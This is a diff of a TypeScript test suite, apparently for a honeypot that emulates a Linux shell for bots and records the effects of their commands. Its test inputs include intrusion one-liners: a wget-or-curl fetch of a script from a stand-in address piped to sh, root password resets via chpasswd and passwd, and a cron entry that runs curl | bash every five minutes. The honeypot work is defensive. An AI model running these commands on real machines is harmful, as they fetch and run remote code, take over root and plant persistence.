@@ -21,17 +21,11 @@ afterAll(() => pool.stop())
 describe('the busiest lines of real bots are answered as the real machine would', () => {
   const { cpu, memory } = machine
   const words = cpu.model.split(' ')
-  const kib = (n: number) => Math.floor(n / 1024)
-  const used = memory.total - memory.free - memory.buffers - memory.cached
   test.each([
     ['cat /proc/cpuinfo | grep name | wc -l', `${cpu.cores}\n`],
     [
       "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
       `${[0, 1, 2, 3, 4, 5].map((i) => words[i] ?? '').join(' ')}\n`,
-    ],
-    [
-      "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
-      `${kib(memory.total)} ${kib(used)} ${kib(memory.free)} 1 ${kib(memory.buffers + memory.cached)} ${kib(memory.available)}\n`,
     ],
     ['cat /proc/cpuinfo | grep model | grep name | wc -l', `${cpu.cores}\n`],
     ['echo -e "\\x6F\\x6B"', 'ok\n'],
@@ -49,7 +43,7 @@ describe('the busiest lines of real bots are answered as the real machine would'
     ['which ls; ls -d /tmp', '/usr/bin/ls\n/tmp\n'],
     ['for i in 1 2 3; do if [ $i = 2 ]; then continue; fi; echo $i; done', '1\n3\n'],
     ["cat > /tmp/s.sh <<'EOF'\necho in $1\nEOF\nsh /tmp/s.sh a", 'in a\n'],
-    ['ifconfig | grep -c inet', '3\n'],
+    ['ifconfig | grep -c inet', '4\n'],
     ['echo "cat /proc/1/mounts && ls /proc/1/" | sh | tail -1', 'status\n'],
   ])('%s', async (line, wanted) => {
     expect((await run(line)).out).toBe(wanted)
@@ -72,11 +66,15 @@ test('what a line does is told: fetches, passwords, persistence, files', async (
   const source = '192.0.2.2'
   expect(
     (await run('(wget -qO- http://198.51.100.1/r.sh||curl -s http://198.51.100.1/r.sh)|sh', source)).effects,
-  ).toEqual([{ type: 'fetch', url: 'http://198.51.100.1/r.sh', tool: 'wget' }])
+  ).toEqual([
+    { type: 'fetch', url: 'http://198.51.100.1/r.sh', tool: 'wget' },
+    // What the first did not bring, the second is to bring.
+    { type: 'fetch', url: 'http://198.51.100.1/r.sh', tool: 'curl' },
+  ])
   expect((await run('echo "root:x1:y"|chpasswd|bash', source)).effects).toEqual([
     { type: 'password', user: 'root', secret: 'x1:y' },
   ])
-  expect((await run('echo -e "old\\nnew\\nnew"|passwd|bash', source)).effects).toEqual([
+  expect((await run('echo -e "new\\nnew"|passwd|bash', source)).effects).toEqual([
     { type: 'password', user: 'root', secret: 'new' },
   ])
   const cron = await run('echo "*/5 * * * * curl http://198.51.100.1/c | bash" | crontab -; crontab -l', source)
